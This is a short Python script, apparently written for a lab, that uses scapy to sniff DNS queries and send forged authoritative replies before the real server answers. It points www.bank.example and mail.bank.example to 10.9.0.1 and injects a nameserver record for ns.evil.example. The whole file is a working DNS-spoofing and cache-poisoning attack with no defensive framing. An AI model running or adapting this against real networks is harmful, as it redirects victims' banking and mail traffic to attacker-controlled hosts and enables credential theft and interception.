#!/usr/bin/env python3
# Answers DNS queries for some names before the server does.
from scapy.all import *

RECORDS = {
    b"www.bank.example.": "10.9.0.1",
    b"mail.bank.example.": "10.9.0.1",
}


def answer(query):
    name = query[DNSQR].qname
    if name not in RECORDS or query[DNS].qr != 0:
        return None
    reply = (IP(src=query[IP].dst, dst=query[IP].src)
             / UDP(sport=query[UDP].dport, dport=query[UDP].sport)
             / DNS(id=query[DNS].id, qr=1, aa=1, rd=query[DNS].rd, qd=query[DNS].qd,
                   an=DNSRR(rrname=name, type="A", rdata=RECORDS[name], ttl=300),
                   ns=DNSRR(rrname="bank.example.", type="NS", rdata="ns.evil.example.", ttl=300)))
    send(reply, verbose=0)
    return "spoofed %s -> %s" % (name.decode(), RECORDS[name])


print("spoofing", *[name.decode() for name in RECORDS], flush=True)
sniff(iface="eth0", filter="udp dst port 53", prn=lambda p: answer(p) if p.haslayer(DNSQR) else None, timeout=15, count=2)
